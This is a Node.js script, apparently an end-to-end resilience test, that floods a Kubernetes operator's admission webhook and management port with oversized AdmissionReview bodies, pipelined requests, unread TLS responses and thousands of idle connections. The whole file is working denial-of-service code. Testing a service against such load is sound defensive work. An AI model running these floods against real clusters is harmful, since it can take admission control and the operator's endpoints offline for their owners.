// Attacks the operator from a pod: `node - MODE WEBHOOK_HOST WEBHOOK_PORT MANAGEMENT_HOST...`, for 8 s.
// Prints how many rounds it made, so that an attack that never got through is told from one that did nothing.
import { request as post } from "node:https";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls } from "node:tls";

const ATTACK_MILLISECONDS = 8_000;
const BODY_BYTES = 3 * 1024 * 1024 - 2_000;
const PARALLEL_BODIES = 8;
const UNREAD_ANSWERS = 60;
const PIPELINING_CONNECTIONS = 200;
const IDLE_CONNECTIONS = 9_000;
const MANAGEMENT_PORT = 8_080;

const [mode, host, portText, ...managementHosts] = process.argv.slice(2);
const port = Number(portText);
const end = performance.now() + ATTACK_MILLISECONDS;
const goesOn = () => performance.now() < end;

function review(object, uid = "u") {
  const request = { uid, kind: { group: "", version: "v1", kind: "Pod" }, operation: "CREATE" };
  return JSON.stringify({
    apiVersion: "admission.k8s.io/v1",
    kind: "AdmissionReview",
    request: { ...request, namespace: "e2e-operator-attacked", object },
  });
}

/** As many of `make(index)` as fit into the largest body. */
function fill(make) {
  const items = [];
  for (let bytes = 0; bytes < BODY_BYTES - 500; bytes += JSON.stringify(items.at(-1)).length + 2) {
    items.push(make(items.length));
  }
  return items;
}

const labels = { app: "web" };
const bodies = {
  annotations: () => {
    const keys = fill((index) => `${index.toString(36)}xx`).slice(0, -BODY_BYTES / 10);
    const annotations = Object.fromEntries(keys.map((key) => [key, ""]));
    return review({ metadata: { labels, annotations }, spec: {} });
  },
  objects: () => review({ metadata: { labels }, spec: { imagePullSecrets: fill(() => ({})) } }),
  uids: () => review({}, "u".repeat(BODY_BYTES - 500)),
};

function send(body) {
  return new Promise((resolve) => {
    const headers = { "content-type": "application/json", "content-length": body.length };
    const options = { host, port, path: "/mutate", method: "POST", headers, agent: false };
    const sent = post({ ...options, rejectUnauthorized: false }, (answer) => {
      answer.resume().on("close", resolve);
    });
    sent.setTimeout(10_000, () => sent.destroy());
    sent.on("error", resolve).end(body);
  });
}

/** Bodies one after the other on each of several connections. */
async function parallelBodies(text) {
  const body = Buffer.from(text);
  let rounds = 0;
  const one = async () => {
    while (goesOn()) {
      await send(body);
      rounds += 1;
    }
  };
  await Promise.all(Array.from({ length: PARALLEL_BODIES }, one));
  return rounds;
}

/** Opens connections that write `bytes` and read nothing, holds them for a while, closes them; again and again. */
async function held(open, { count, bytes, milliseconds }) {
  let rounds = 0;
  while (goesOn()) {
    const sockets = Array.from({ length: count }, open);
    for (const socket of sockets) {
      socket.on("error", () => {}).pause();
      if (bytes) socket.write(bytes);
    }
    await sleep(milliseconds);
    for (const socket of sockets) socket.destroy();
    rounds += 1;
  }
  return rounds;
}

const head = (length) =>
  `POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
const secure = () => connectTls({ host, port, rejectUnauthorized: false });
const management = (_, index) =>
  connect(MANAGEMENT_PORT, managementHosts[index % managementHosts.length]);

function unreadAnswers() {
  const body = bodies.uids();
  return held(secure, {
    count: UNREAD_ANSWERS,
    bytes: head(body.length) + body,
    milliseconds: 3_000,
  });
}

function pipelining() {
  const body = review({ metadata: { labels }, spec: { containers: [{ name: "app" }] } });
  const bytes = (head(body.length) + body).repeat(300);
  return held(secure, { count: PIPELINING_CONNECTIONS, bytes, milliseconds: 1_000 });
}

const attacks = {
  annotations: () => parallelBodies(bodies.annotations()),
  objects: () => parallelBodies(bodies.objects()),
  unreadAnswers,
  pipelining,
  idleWebhook: () =>
    held(() => connect(port, host), { count: IDLE_CONNECTIONS, milliseconds: 3_000 }),
  idleManagement: () => held(management, { count: IDLE_CONNECTIONS, milliseconds: 3_000 }),
};

process.stdout.write(`${await attacks[mode]()}\n`);
process.exit(0);
